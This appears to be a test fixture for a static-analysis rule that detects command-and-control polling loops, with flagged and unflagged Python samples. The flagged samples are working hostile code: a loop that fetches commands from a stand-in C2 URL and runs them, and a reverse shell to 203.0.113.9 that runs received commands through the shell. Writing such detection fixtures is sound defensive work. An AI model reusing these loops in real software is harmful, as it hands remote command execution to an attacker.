import os
import socket
import subprocess
import time

import requests

C2 = "https://example.invalid/task"


def poll():
    while True:
        task = requests.get(C2).text
        # ruleid: c2-polling-loop
        os.system(task)
        time.sleep(30)


def shell():
    s = socket.socket()
    s.connect(("203.0.113.9", 9001))
    while True:
        command = s.recv(1024).decode()
        # ruleid: c2-polling-loop
        proc = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
        s.send(proc.stdout.read())


def updater():
    while True:
        latest = requests.get("https://example.invalid/version").json()["v"]
        # ok: c2-polling-loop
        subprocess.call(["pip", "install", "pkg==" + latest])
        time.sleep(3600)


def echo_server(conn):
    while True:
        data = conn.recv(1024)
        # ok: c2-polling-loop
        conn.sendall(data)
        # ok: c2-polling-loop
        os.system("true")
